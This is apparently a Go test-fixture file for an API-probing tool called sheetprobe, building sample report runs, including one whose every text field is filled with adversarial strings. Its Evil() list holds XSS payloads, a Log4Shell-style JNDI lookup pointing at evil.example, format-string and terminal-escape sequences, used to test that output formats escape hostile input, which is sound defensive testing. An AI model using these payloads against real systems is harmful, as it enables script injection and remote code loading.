package reporttest

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"time"
	"unicode/utf8"

	"github.com/sheetprobe/sheetprobe/probe"
	"github.com/sheetprobe/sheetprobe/schema/source"
)

// composed are the runs that every format is tried with.
func composed() map[string]*probe.Run {
	runs := map[string]*probe.Run{
		"empty": {}, "bare": {Sheets: []probe.SheetResult{{Cases: []probe.Result{{}, {Verdict: probe.Deviates}}}, {}}},
		"every verdict": EveryVerdict(), "interrupted": interrupted(), "unreadable": unreadable(), "all left out": leftOut(), "not all seen": notAllSeen(),
		"same names": {Sheets: []probe.SheetResult{{Name: "A"}, {Name: "A"}, {Name: "A (2)"}, {Name: "A"}}},
	}
	for name, evil := range Evil() {
		runs["hostile/"+name] = Hostile(evil)
	}
	for _, run := range runs {
		run.Summarize()
	}
	return runs
}

// EveryVerdict is a run with a case of every verdict, attempts that failed, repeats, and a document in which no sheet was found.
func EveryVerdict() *probe.Run {
	run := newRun()
	run.Diagnostics = source.Diagnostics{{Rule: "sheet.unreadable", Severity: source.Error, Message: "minutes.txt: no API details sheet was found", Hint: "expected labels such as Endpoint URL"}}
	s := probe.SheetResult{
		Name: "Book a pickup", Method: "POST", URL: "https://api-sit.parcelway.test/pickup/v1/bookings", Document: "sheets/pick up.xlsx", DocumentSHA256: strings.Repeat("0a", 32),
		At:          at("Booking!B3", 0, 0),
		Diagnostics: source.Diagnostics{{Rule: "sheet.repaired-json", Severity: source.Info, Field: "success_response", Message: "keys were not quoted (4)", At: at("Booking!B9", 2, 3)}},
	}
	ok := newCase("success", probe.Conforms)
	ok.Exchange.Attempts = []probe.Attempt{{Error: "connection refused", Phase: probe.PhaseConnect, Rule: "transport.refused"}, {Phase: probe.PhaseBody}}
	ok.Findings = []probe.Finding{newFinding("shape.undocumented", source.Warning, "/trace")}
	ok.Repeats = []probe.Repeat{{Verdict: probe.Conforms, HTTPStatus: 201, TotalMS: 31}, {Verdict: probe.Deviates, HTTPStatus: 500, TotalMS: 900, Exchange: newExchange(500)}}
	ok.Callbacks = []probe.Received{{Request: newExchange(201).Request, AfterMS: 350, From: "127.0.0.1:50123"}}
	ok.Polls = []probe.Polled{{AfterMS: 100, State: "PENDING", HTTPStatus: 200}, {AfterMS: 300, State: "DONE", HTTPStatus: 200}}
	bad := newCase("missing-field/date", probe.Deviates)
	bad.Findings = []probe.Finding{newFinding("shape.missing", source.Error, "/window/to"), newFinding("status.http", source.Error, "")}
	unclear := newCase("no-auth", probe.Inconclusive)
	unclear.Reason, unclear.Exchange.Response = "no answer came in time", nil
	outage := probe.Diagnosis{
		Cause: "connect-timeout", Means: "nobody answers there", Facts: []probe.Fact{{Name: "our address", Value: "192.0.2.7"}}, Letter: "Dear network team,\nplease let us in.", Host: true,
	}
	unclear.Exchange.Attempts = []probe.Attempt{{Error: "timeout", Phase: probe.PhaseFirstByte, Rule: "transport.timeout", Diagnosis: &outage}}
	run.Hosts = []probe.HostDiagnosis{{Host: "127.0.0.1:8080", Rule: "transport.timeout", FoundIn: unclear.ID, Affected: 1, Diagnosis: outage}}
	unclear.Findings = []probe.Finding{newFinding("transport.timeout", source.Error, "")}
	unclear.Findings[0].Blame = probe.BlameEnvironment
	blocked, skipped := newCase("unknown-id/id", probe.Blocked), newCase("malformed-body", probe.Skipped)
	blocked.Exchange, skipped.Exchange, blocked.Reason, skipped.Reason = nil, nil, "the budget of requests is used up", "not chosen by --only"
	s.Cases = []probe.Result{ok, bad, unclear, blocked, skipped}
	run.Sheets = []probe.SheetResult{s, {Name: "Cancel", Document: "cancel.txt", Diagnostics: source.Diagnostics{{Rule: "sheet.bad-url", Severity: source.Error, Message: "no URL", At: at("", 4, 1)}}}}
	run.Sheets[0].Findings = []probe.Finding{newFinding("coverage.error-not-elicited", source.Warning, "")}
	run.Sheets[0].Cases[1].Findings[1].Proposed = &probe.ProposedRow{HTTPStatus: 409, Code: "40901", Message: "taken", Line: "40901  taken (HTTP 409)"}
	run.Sheets[0].Coverage = probe.Coverage{
		Codes:     []probe.CodeCoverage{{Code: "201", Documented: true, Seen: true, SeenIn: []string{ok.ID}}, {Code: "404", Documented: true, Lacking: "a bad id"}, {Code: "40901", Seen: true}},
		Responses: []probe.ResponseCoverage{{Kind: probe.OutcomeError, HTTPStatus: 404, Title: "unknown point", At: at("Booking!B9", 1, 1), Tried: []string{bad.ID}}},
	}
	run.Sheets[0].Measure()
	run.Sheets[0].Cases[1].Findings[0].At = at("Booking!B9", 5, 7)
	return run
}

func newRun() *probe.Run {
	start := time.Date(2026, 3, 2, 9, 15, 0, 0, time.UTC)
	return &probe.Run{
		SchemaVersion: probe.SchemaVersion, Tool: probe.Tool{Name: "sheetprobe", Version: "1.2.3", RulesVersion: "7"}, RunID: "run-7f3a", StartedAt: start, FinishedAt: start.Add(1234 * time.Millisecond),
	}
}

func newCase(name string, v probe.Verdict) probe.Result {
	return probe.Result{
		ID: "book-a-pickup/" + name, Title: name, Family: probe.Family(strings.Split(name, "/")[0]), Verdict: v, Checks: 4,
		Expect: probe.Expectation{Outcome: probe.OutcomeSuccess}, Outcome: probe.OutcomeSuccess, Exchange: newExchange(201),
	}
}

func newExchange(status int) *probe.Exchange {
	return &probe.Exchange{
		StartedAt: time.Date(2026, 3, 2, 9, 15, 0, 500_000_000, time.UTC), Attempts: []probe.Attempt{{Phase: probe.PhaseBody}},
		Request: probe.RecordedRequest{
			Method: "POST", URL: "http://127.0.0.1:8080/pickup/v1/bookings?a=1&b=%20x",
			Headers: []probe.Header{{Name: "Content-Type", Value: "application/json"}, {Name: "X-Api-Key", Value: "[masked:api_key~abcde]"}},
			Body:    `{"pointId":"PT-11"}`,
		},
		Response: &probe.RecordedResponse{
			HTTPStatus: status, Headers: []probe.Header{{Name: "Content-Type", Value: "application/json; charset=utf-8"}}, Body: `{"bookingId":"BK-7001"}`, MediaType: "application/json",
		},
		Timing:     probe.Timing{DNS: 0.25, Connect: 1.5, TLS: 3, FirstByte: 20, Total: 26},
		RemoteAddr: "127.0.0.1:8080",
	}
}

func newFinding(rule string, severity source.Severity, pointer string) probe.Finding {
	f := probe.NewFinding(rule, "book-a-pickup", probe.AtBody, pointer)
	f.Severity, f.Pointer, f.Message, f.Documented, f.Observed = severity, pointer, "something else came than documented", "string", "absent"
	return f
}

func at(cell string, line, column int) source.Span {
	return source.Span{Pos: source.Pos{Cell: cell, Line: line, Column: column}}
}

func interrupted() *probe.Run {
	run := newRun()
	run.Interrupted = true
	done, left := newCase("success", probe.Conforms), newCase("no-auth", probe.Skipped)
	left.Exchange, left.Reason = nil, "the run was interrupted"
	run.Sheets = []probe.SheetResult{{Name: "Book a pickup", Cases: []probe.Result{done, left}}}
	return run
}

func unreadable() *probe.Run {
	run := newRun()
	run.Diagnostics = EveryVerdict().Diagnostics
	return run
}

func leftOut() *probe.Run {
	run := newRun()
	c := newCase("success", probe.Skipped)
	c.Exchange, c.Reason = nil, "not chosen by --only"
	run.Sheets = []probe.SheetResult{{Name: "Book a pickup", Cases: []probe.Result{c}}}
	return run
}

// notAllSeen deviates for what its cases together do not show: each of them conforms.
func notAllSeen() *probe.Run {
	run := newRun()
	s := probe.SheetResult{Name: "Book a pickup", Document: "pickup.txt", Cases: []probe.Result{newCase("success", probe.Conforms)}}
	s.Findings = []probe.Finding{newFinding("coverage.error-not-elicited", source.Error, "")}
	run.Sheets = []probe.SheetResult{s}
	return run
}

// Huge is a run of so many APIs with so many cases each, of which every seventh deviates.
func Huge(apis, cases int) *probe.Run {
	run := newRun()
	for i := range apis {
		s := probe.SheetResult{Name: fmt.Sprintf("API %d", i), Method: "POST", URL: "https://sit.parcelway.test/", Document: "all.xlsx", At: at(fmt.Sprintf("Tab!B%d", i+1), 0, 0)}
		for k := range cases {
			c := newCase("success", probe.Conforms)
			c.ID = fmt.Sprintf("api-%d/missing-field/f%d", i, k)
			if (i*cases+k)%7 == 0 {
				c.Verdict = probe.Deviates
				c.Findings = []probe.Finding{newFinding("shape.missing", source.Error, fmt.Sprintf("/data/%d/id", k))}
			}
			s.Cases = append(s.Cases, c)
		}
		run.Sheets = append(run.Sheets, s)
	}
	return run
}

// Evil are texts as no format expects them.
func Evil() map[string]string {
	return map[string]string{
		"escapes":   "\x1b[2J\x1b]0;owned\x07\r\u009b31m\x7f\x00 \u202egnp\u2066",
		"markup":    `</script><script>alert(1)</script><img src=x onerror=alert(2)>]]>--><!--"' onmouseover="x" <a href="javascript:alert(3)">`,
		"markdown":  "`a` | **b** [go](https://evil.example) ![x](http://evil.example/x.png) @everyone #12 <details> $x$ www.evil.example\n\n# heading\n| a |\n|---|\n",
		"templates": "{{.}} ${jndi:ldap://evil.example} %s%n {0} [link](1) \\",
		"not UTF-8": "\xff\xfe\xe5 half \xed\xa0\x80 \uFFFE\uFFFF",
		"lines":     "a\nb\r\nc\u2028d\u2029\n\n",
		"long":      strings.Repeat("\x1b[31m0123456789<&\"", 300),
		"wide":      strings.Repeat("\u4e2d\u6587 \U0001F600e\u0301", 300),
	}
}

// Hostile is a run in which every text is the same, at every depth, with a case of every verdict.
func Hostile(evil string) *probe.Run {
	run := EveryVerdict()
	pollute(reflect.ValueOf(run).Elem(), evil)
	run.SchemaVersion = probe.SchemaVersion
	return run
}

// vocabulary are the types whose values are ours, and not those of documents and answers.
var vocabulary = []reflect.Type{reflect.TypeFor[probe.Verdict](), reflect.TypeFor[source.Severity](), reflect.TypeFor[probe.Blame](), reflect.TypeFor[time.Time]()}

func pollute(v reflect.Value, evil string) {
	eachText(v, func(text reflect.Value) { text.SetString(evil) })
}

// eachText visits every text that is not of the vocabulary.
func eachText(v reflect.Value, visit func(reflect.Value)) {
	if slices.Contains(vocabulary, v.Type()) {
		return
	}
	switch v.Kind() {
	case reflect.String:
		visit(v)
	case reflect.Pointer:
		if !v.IsNil() {
			eachText(v.Elem(), visit)
		}
	case reflect.Slice:
		for i := range v.Len() {
			eachText(v.Index(i), visit)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			eachText(v.Field(i), visit)
		}
	default: // numbers and truths say nothing hostile
	}
}

// isUTF8 says that JSON can hold the run as it is.
func isUTF8(run *probe.Run) bool {
	valid := true
	eachText(reflect.ValueOf(run).Elem(), func(v reflect.Value) { valid = valid && utf8.ValidString(v.String()) })
	return valid
}
